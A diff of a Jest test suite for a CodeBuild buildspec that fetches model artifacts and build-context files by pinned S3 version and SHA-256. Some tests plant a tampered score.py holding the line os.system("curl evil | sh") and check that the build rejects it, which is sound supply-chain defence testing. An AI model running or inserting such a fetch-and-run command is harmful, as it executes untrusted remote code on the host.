@@ -1,9 +1,13 @@
 import { spawnSync } from 'node:child_process';
+import { createHash } from 'node:crypto';
 import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import * as path from 'node:path';
-import { MODEL_MANIFEST_FILE, renderBuildContext } from '../../../../lambda/images/core/build-context';
+import { formatContextFiles, MODEL_MANIFEST_FILE, renderBuildContext } from '../../../../lambda/images/core/build-context';
 import { type ImageBuildVariables, imageBuildSpec } from '../../../../lambda/images/core/buildspec';
+import type { ContextFile } from '../../../../lambda/images/core/model';
+
+const sha256 = (text: string) => createHash('sha256').update(text).digest('hex');
 
 interface Phase {
   readonly 'on-failure'?: string;
@@ -20,6 +24,9 @@ const BUILD_VARIABLES: ImageBuildVariables = {
   IMAGE_VERSION: '2',
   IMAGE_TAG: 'churn-scorer-2',
   MODEL_DATA_URI: 's3://artifacts/images/churn-scorer/2/model.tar.gz',
+  CONTEXT_BUCKET: 'artifacts',
+  CONTEXT_PREFIX: 'images/churn-scorer/2/context/',
+  CONTEXT_FILES: '',
 };
 /** The project's variables, and what CodeBuild sets in every build. */
 const PROJECT_VARIABLES = { REPOSITORY_URI, REPOSITORY_NAME: 'mlops-images' };
@@ -51,14 +58,25 @@ describe('imageBuildSpec', () => {
     expect(preBuild.commands[0]).toBe('set -o pipefail');
   });
 
-  it('downloads each model of models.txt into a staging directory outside the build context', () => {
-    const loop = commandMatching(preBuild, /while .*read/);
+  it('downloads every object by its pinned S3 version and checks its SHA-256, never by key alone', () => {
+    const fetch = commandMatching(preBuild, /^fetch\(\)/);
 
-    expect(loop).toMatch(new RegExp(`done < ${MODEL_MANIFEST_FILE}$`));
-    expect(loop).toContain('aws s3 cp --only-show-errors "$uri" "/tmp/model/$dir/"');
+    expect(fetch).toContain('aws s3api get-object --bucket "$1" --key "$2" --version-id "$3" "$5"');
+    expect(fetch).toContain('[ "$(sha256sum < "$5" | cut -d " " -f 1)" = "$4" ]');
+    expect(fetch).toContain('return 1');
+    expect(allCommands.filter((command) => /aws s3 cp[^|]*"\$?s3:|aws s3 cp[^|]*"\$uri"/.test(command))).toEqual([]);
+  });
+
+  it('assembles the context from the pinned files of CONTEXT_FILES, then downloads each model of its models.txt outside it', () => {
+    const context = commandMatching(preBuild, /for file in \$CONTEXT_FILES/);
+    const models = commandMatching(preBuild, /while .*read/);
+
+    expect(context).toContain('fetch "$CONTEXT_BUCKET" "$CONTEXT_PREFIX$name" "$vid" "$sha" "/tmp/context/$name" || exit 1');
+    expect(models).toMatch(new RegExp(`done < /tmp/context/${MODEL_MANIFEST_FILE}$`));
     // A failed download fails the command, not just one turn of the loop.
-    expect(loop).toContain('|| exit 1');
-    expect(preBuild.commands).toContain('mkdir -p /tmp/model');
+    expect(models).toContain('|| exit 1');
+    expect(preBuild.commands.indexOf(context)).toBeLessThan(preBuild.commands.indexOf(models));
+    expect(preBuild.commands).toContain('mkdir -p /tmp/context /tmp/model');
   });
 
   it('packs the staged models into model.tar.gz and uploads it to the model data URI', () => {
@@ -76,8 +94,8 @@ describe('imageBuildSpec', () => {
     );
   });
 
-  it('builds the context with fresh base layers and pushes it under its own tag', () => {
-    expect(build.commands).toEqual(['docker build --pull --tag "$REPOSITORY_URI:$IMAGE_TAG" .', 'docker push "$REPOSITORY_URI:$IMAGE_TAG"']);
+  it('builds the checked context (not the source CodeBuild downloaded) with fresh base layers and pushes it under its own tag', () => {
+    expect(build.commands).toEqual(['docker build --pull --tag "$REPOSITORY_URI:$IMAGE_TAG" /tmp/context', 'docker push "$REPOSITORY_URI:$IMAGE_TAG"']);
   });
 
   it('waits for the scan of the pushed tag, tolerating a wait that times out', () => {
@@ -90,7 +108,10 @@ describe('imageBuildSpec', () => {
   it('reads exactly the variables the build is given: the start\'s, the project\'s and AWS_REGION', () => {
     const assignedInCommands = allCommands.flatMap((command) => [...command.matchAll(/(?:^|[\s;])([A-Za-z_][A-Za-z0-9_]*)=/g)].map((m) => m[1]));
     const readVariables = allCommands.flatMap((command) => [...command.matchAll(/\$\{?([A-Za-z_][A-Za-z0-9_]*)/g)].map((m) => m[1]));
-    const loopVariables = allCommands.flatMap((command) => [...command.matchAll(/read -r ((?:[A-Za-z_][A-Za-z0-9_]* ?)+);/g)].flatMap((m) => m[1].trim().split(' ')));
+    const loopVariables = allCommands.flatMap((command) => [
+      ...[...command.matchAll(/read -r ((?:[A-Za-z_][A-Za-z0-9_]* ?)+)[;<]/g)].flatMap((m) => m[1].trim().split(' ')),
+      ...[...command.matchAll(/for ([A-Za-z_][A-Za-z0-9_]*) in /g)].map((m) => m[1]),
+    ]);
     const local = new Set([...assignedInCommands, ...loopVariables]);
 
     const external = [...new Set(readVariables.filter((name) => !local.has(name)))].sort();
@@ -108,16 +129,22 @@ describe('imageBuildSpec', () => {
     });
 
     /**
-     * Runs commands of the buildspec in the build's working directory (the context), in one shell
-     * as CodeBuild does, stopping at the first that fails, with `aws` and `docker` replaced by
-     * scripts that log their arguments; `/tmp/` is moved into a scratch directory.
+     * Runs commands of the buildspec in the build's working directory, in one shell as CodeBuild
+     * does, stopping at the first that fails, with `aws` and `docker` replaced by scripts that log
+     * their arguments; `/tmp/` is moved into a scratch directory. The fake S3 holds `objects`,
+     * keyed `<bucket>/<key>@<version id>`, and answers `s3api get-object` of one version only.
      */
-    function runPhase(commands: readonly string[], options: { manifest?: string; env?: Record<string, string> } = {}) {
+    function runPhase(commands: readonly string[], options: { objects?: Readonly<Record<string, string>>; env?: Record<string, string> } = {}) {
       const work = mkdtempSync(path.join(tmpdir(), 'mlops-buildspec-'));
       const bin = path.join(work, 'bin');
-      const context = path.join(work, 'context');
+      const context = path.join(work, 'source');
       const scratch = path.join(work, 'tmp');
-      for (const dir of [bin, context, scratch]) mkdirSync(dir);
+      const store = path.join(work, 'store');
+      for (const dir of [bin, context, scratch, store]) mkdirSync(dir);
+      for (const [name, body] of Object.entries(options.objects ?? {})) {
+        mkdirSync(path.dirname(path.join(store, name)), { recursive: true });
+        writeFileSync(path.join(store, name), body);
+      }
       const calls = path.join(work, 'calls');
       writeFileSync(calls, '');
       const fake = (name: string, body: string) => {
@@ -128,20 +155,18 @@ describe('imageBuildSpec', () => {
       fake(
         'aws',
         [
-          'if [ "$1 $2" = "s3 cp" ]; then',
-          '  src="${@: -2:1}"; dest="${@: -1}"',
-          '  case "$src" in',
-          '    s3://*missing*) echo "download failed: $src" >&2; exit 1 ;;',
-          '    s3://*) mkdir -p "$dest" && printf "%s" "$src" > "$dest$(basename "$src")" ;;',
-          '    *) cp "$src" "$UPLOADED" ;;',
-          '  esac',
+          'if [ "$1 $2" = "s3api get-object" ]; then',
+          '  shift 2',
+          '  while [ $# -gt 1 ]; do case "$1" in --bucket) b="$2"; shift 2 ;; --key) k="$2"; shift 2 ;; --version-id) v="$2"; shift 2 ;; *) break ;; esac; done',
+          '  [ -f "$STORE/$b/$k@$v" ] || { echo "An error occurred (NoSuchVersion) when calling the GetObject operation: s3://$b/$k $v" >&2; exit 254; }',
+          '  cp "$STORE/$b/$k@$v" "$1" && echo \'{"VersionId": "\'"$v"\'"}\'',
           'fi',
+          'if [ "$1 $2" = "s3 cp" ]; then cp "${@: -2:1}" "$UPLOADED"; fi',
           'if [ "$1 $2" = "ecr get-login-password" ]; then [ -z "$LOGIN_FAILS" ] || exit 255; echo registry-password; fi',
           'if [ "$1 $2" = "ecr wait" ]; then exit "${SCAN_WAIT_STATUS:-0}"; fi',
         ].join('\n'),
       );
       fake('docker', 'if [ "$1" = login ]; then cat > "$LOGIN_PASSWORD"; fi');
-      if (options.manifest !== undefined) writeFileSync(path.join(context, MODEL_MANIFEST_FILE), options.manifest);
 
       const script = ['set -e', ...commands.map((command) => command.replaceAll('/tmp/', `${scratch}/`))].join('\n');
       const run = spawnSync('bash', ['-c', script], {
@@ -152,6 +177,7 @@ describe('imageBuildSpec', () => {
           PATH: `${bin}:${process.env.PATH}`,
           HOME: work,
           CALLS: calls,
+          STORE: store,
           UPLOADED: path.join(work, 'uploaded.tar.gz'),
           LOGIN_PASSWORD: path.join(work, 'login-password'),
           ...BUILD_VARIABLES,
@@ -165,52 +191,114 @@ describe('imageBuildSpec', () => {
         .filter(Boolean)
         .map((line) => line.split('\x1f').slice(0, -1));
       const read = (file: string) => readFileSync(path.join(work, file), 'utf8');
+      const built = (file: string) => readFileSync(path.join(scratch, 'context', file), 'utf8');
       const tarList = () => spawnSync('tar', ['-tzf', path.join(work, 'uploaded.tar.gz')], { encoding: 'utf8' }).stdout.split('\n').filter(Boolean).sort();
       const tarFile = (member: string) => spawnSync('tar', ['-xzOf', path.join(work, 'uploaded.tar.gz'), member], { encoding: 'utf8' }).stdout;
-      return { run, called, read, tarList, tarFile, cleanUp: () => rmSync(work, { recursive: true, force: true }) };
+      return { run, called, read, built, tarList, tarFile, cleanUp: () => rmSync(work, { recursive: true, force: true }) };
     }
 
+    const CHURN = 'weights of churn 3';
+    const FRAUD = 'weights of fraud v2 11';
     const models = [
-      { name: 'churn', version: 3, artifactUri: 's3://artifacts/models/churn/3/model.tar.gz' },
-      { name: 'fraud.v2', version: 11, artifactUri: 's3://artifacts/models/fraud detection/11/model.joblib' },
+      { name: 'churn', version: 3, artifactUri: 's3://artifacts/models/churn/3/model.tar.gz', artifactVersionId: 'Vchurn3', artifactSha256: sha256(CHURN) },
+      { name: 'fraud.v2', version: 11, artifactUri: 's3://artifacts/models/fraud detection/11/model.joblib', artifactVersionId: 'Vfraud11', artifactSha256: sha256(FRAUD) },
     ];
-    const manifest = renderBuildContext(
-      { imageName: 'churn-scorer', imageVersion: 2, baseImage: 'python:3.12', entryFile: 'score.py', models, environment: {}, requirements: [] },
-      '',
-    )[MODEL_MANIFEST_FILE];
+    const contextText = {
+      ...renderBuildContext({ imageName: 'churn-scorer', imageVersion: 2, baseImage: 'python:3.12', entryFile: 'score.py', models, environment: {}, requirements: [] }, ''),
+      'score.py': 'def run(data):\n    return data\n',
+    };
+
+    /** A build as RegisterImage left it: the context written (one S3 version each) and the artifacts the registry pinned, with `swap` applied to the store afterwards. */
+    function registered(swap: (objects: Record<string, string>) => void = () => undefined) {
+      const files: ContextFile[] = Object.entries(contextText).map(([name, text], index) => ({ name, versionId: `ctx${index}`, sha256: sha256(text) }));
+      const objects: Record<string, string> = {
+        'artifacts/models/churn/3/model.tar.gz@Vchurn3': CHURN,
+        'artifacts/models/fraud detection/11/model.joblib@Vfraud11': FRAUD,
+      };
+      for (const file of files) objects[`artifacts/${BUILD_VARIABLES.CONTEXT_PREFIX}${file.name}@${file.versionId}`] = contextText[file.name as keyof typeof contextText];
+      swap(objects);
+      return { objects, env: { CONTEXT_FILES: formatContextFiles(files) } };
+    }
 
     it('packs every model of the manifest under <model>/<version>/, keys with spaces included, and uploads the archive', () => {
-      const phase = runPhase(preBuild.commands, { manifest });
+      const phase = runPhase(preBuild.commands, registered());
       try {
         expect(phase.run.stderr).toBe('');
         expect(phase.run.status).toBe(0);
         expect(phase.tarList()).toEqual(['./', './churn/', './churn/3/', './churn/3/model.tar.gz', './fraud.v2/', './fraud.v2/11/', './fraud.v2/11/model.joblib']);
-        expect(phase.tarFile('./fraud.v2/11/model.joblib')).toBe('s3://artifacts/models/fraud detection/11/model.joblib');
-        const copies = phase.called.filter((args) => args[0] === 'aws' && args[1] === 's3');
-        expect(copies.map((args) => args[args.length - 2])).toEqual([models[0].artifactUri, models[1].artifactUri, expect.stringMatching(/\/model\.tar\.gz$/)]);
-        expect(copies[2][copies[2].length - 1]).toBe(BUILD_VARIABLES.MODEL_DATA_URI);
+        expect(phase.tarFile('./fraud.v2/11/model.joblib')).toBe(FRAUD);
+        expect(phase.tarFile('./churn/3/model.tar.gz')).toBe(CHURN);
+        const gets = phase.called.filter((args) => args[1] === 's3api').map((args) => args.slice(4, 9));
+        expect(gets.slice(-2)).toEqual([
+          ['artifacts', '--key', 'models/churn/3/model.tar.gz', '--version-id', 'Vchurn3'],
+          ['artifacts', '--key', 'models/fraud detection/11/model.joblib', '--version-id', 'Vfraud11'],
+        ]);
+        const upload = phase.called.find((args) => args[1] === 's3' && args[2] === 'cp')!;
+        expect(upload[upload.length - 1]).toBe(BUILD_VARIABLES.MODEL_DATA_URI);
+      } finally {
+        phase.cleanUp();
+      }
+    });
+
+    it('assembles the build context from exactly the pinned version of each file', () => {
+      const phase = runPhase(preBuild.commands, registered((objects) => {
+        // A newer version of the script, written after registration: not the one pinned.
+        objects[`artifacts/${BUILD_VARIABLES.CONTEXT_PREFIX}score.py@later`] = 'import os\nos.system("curl evil | sh")\n';
+      }));
+      try {
+        expect(phase.run.status).toBe(0);
+        for (const [name, text] of Object.entries(contextText)) expect(phase.built(name)).toBe(text);
+      } finally {
+        phase.cleanUp();
+      }
+    });
+
+    it.each([
+      ['the entry script', `artifacts/images/churn-scorer/2/context/score.py@ctx5`],
+      ['the Dockerfile', `artifacts/images/churn-scorer/2/context/Dockerfile@ctx0`],
+      ['models.txt', `artifacts/images/churn-scorer/2/context/models.txt@ctx3`],
+    ])('fails pre_build when %s of the context was swapped after registration, before packing or logging in', (_, swapped) => {
+      const phase = runPhase(preBuild.commands, registered((objects) => (objects[swapped] = 'import os\nos.system("curl evil | sh")\n')));
+      try {
+        expect(phase.run.status).not.toBe(0);
+        expect(phase.run.stderr).toContain(`s3://${swapped.replace('@', ' version ')} is not what was registered`);
+        expect(phase.called.filter((args) => args[1] === 's3' || args[1] === 'ecr' || args[0] === 'docker')).toEqual([]);
+      } finally {
+        phase.cleanUp();
+      }
+    });
+
+    it('fails pre_build when a model artifact version holds other bytes than the registry pinned, uploading no model data', () => {
+      const phase = runPhase(preBuild.commands, registered((objects) => (objects['artifacts/models/churn/3/model.tar.gz@Vchurn3'] = 'swapped weights')));
+      try {
+        expect(phase.run.status).not.toBe(0);
+        expect(phase.run.stderr).toContain(`s3://artifacts/models/churn/3/model.tar.gz version Vchurn3 is not what was registered: it cannot be read or its SHA-256 is not ${sha256(CHURN)}`);
+        expect(phase.called.filter((args) => args[1] === 's3' || args[1] === 'ecr' || args[0] === 'docker')).toEqual([]);
+      } finally {
+        phase.cleanUp();
+      }
+    });
+
+    it('fails pre_build when the pinned version of a model artifact is gone, though its key holds other bytes now', () => {
+      const phase = runPhase(preBuild.commands, registered((objects) => {
+        delete objects['artifacts/models/fraud detection/11/model.joblib@Vfraud11'];
+        objects['artifacts/models/fraud detection/11/model.joblib@newer'] = 'overwritten weights';
+      }));
+      try {
+        expect(phase.run.status).not.toBe(0);
+        expect(phase.run.stderr).toContain('NoSuchVersion');
+        expect(phase.called.filter((args) => args[1] === 's3' || args[0] === 'docker')).toEqual([]);
       } finally {
         phase.cleanUp();
       }
     });
 
     it('logs Docker in to the registry host with the password from ECR, in the build\'s region', () => {
-      const phase = runPhase(preBuild.commands, { manifest });
+      const phase = runPhase(preBuild.commands, registered());
       try {
         expect(phase.called).toContainEqual(['aws', 'ecr', 'get-login-password', '--region', 'eu-west-1']);
         expect(phase.called).toContainEqual(['docker', 'login', '--username', 'AWS', '--password-stdin', '123456789012.dkr.ecr.eu-west-1.amazonaws.com']);
         expect(phase.read('login-password')).toBe('registry-password\n');
-      } finally {
-        phase.cleanUp();
-      }
-    });
-
-    it('fails pre_build at a model that cannot be downloaded, before packing or logging in', () => {
-      const phase = runPhase(preBuild.commands, { manifest: 's3://artifacts/models/churn/3/model.tar.gz churn/3\ns3://artifacts/missing/model.tar.gz fraud/1\n' });
-      try {
-        expect(phase.run.status).not.toBe(0);
-        expect(phase.run.stderr).toContain('download failed: s3://artifacts/missing/model.tar.gz');
-        expect(phase.called.map((args) => args.slice(0, 3).join(' '))).toEqual(['aws s3 cp', 'aws s3 cp']);
       } finally {
         phase.cleanUp();
       }
@@ -231,7 +319,7 @@ describe('imageBuildSpec', () => {
       try {
         expect(phase.run.status).toBe(0);
         expect(phase.called).toEqual([
-          ['docker', 'build', '--pull', '--tag', `${REPOSITORY_URI}:churn-scorer-2`, '.'],
+          ['docker', 'build', '--pull', '--tag', `${REPOSITORY_URI}:churn-scorer-2`, expect.stringMatching(/\/tmp\/context$/)],
           ['docker', 'push', `${REPOSITORY_URI}:churn-scorer-2`],
         ]);
       } finally {
